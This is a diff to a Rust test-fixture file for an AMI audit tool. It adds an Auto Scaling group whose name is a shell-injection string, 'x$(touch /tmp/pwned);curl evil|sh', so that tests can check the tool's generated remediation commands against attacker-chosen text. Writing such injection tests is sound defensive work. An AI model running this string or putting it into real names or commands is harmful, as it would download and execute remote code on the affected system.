@@ -142,10 +142,35 @@ pub fn audit_sample(out: &Path, extra: &[&str]) -> Output {
     amiaudit(&args)
 }
 
+/// The name of the hostile inventory's Auto Scaling group: a shell
+/// command, for the remediation commands that name it.
+pub const HOSTILE_GROUP: &str = "x$(touch /tmp/pwned);curl evil|sh";
+
 /// One account with one public image, carrying attacker-chosen text in the
-/// account name, image name and description (for the injection tests).
+/// account name, image name and description (for the injection tests), and
+/// an Auto Scaling group named [`HOSTILE_GROUP`] that launches an AMI gone.
 pub fn hostile_inventory(account_name: &str, image_name: &str, description: &str) -> Inventory {
     inventory(vec![
+        (
+            "auto_scaling_groups",
+            vec![
+                ("account_id", "111111111111".into()),
+                ("region", "eu-west-1".into()),
+                ("group_name", HOSTILE_GROUP.into()),
+            ],
+        ),
+        (
+            "asg_launch_sources",
+            vec![
+                ("account_id", "111111111111".into()),
+                ("region", "eu-west-1".into()),
+                ("group_name", HOSTILE_GROUP.into()),
+                ("source", "launch_configuration".into()),
+                ("reference", "lc".into()),
+                ("image_id", "ami-gone".into()),
+                ("image_visible", false.into()),
+            ],
+        ),
         (
             "accounts",
             vec![
